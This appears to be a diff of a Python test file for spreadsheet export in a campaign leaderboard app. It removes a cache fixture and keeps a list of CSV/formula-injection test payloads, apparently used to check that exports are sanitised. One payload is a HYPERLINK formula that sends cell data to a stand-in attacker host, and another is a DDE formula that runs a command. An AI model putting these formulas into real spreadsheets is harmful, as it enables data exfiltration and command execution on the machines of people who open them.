@@ -7,17 +7,9 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from campaign.services import leaderboard_cache as cache
 from tests.public_helpers import BANDS, publish
 
 EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
-
-
-@pytest.fixture(autouse=True)
-def fresh_cache():
-    cache.reset_local()
-    yield
-    cache.reset_local()
 
 
 @pytest.fixture
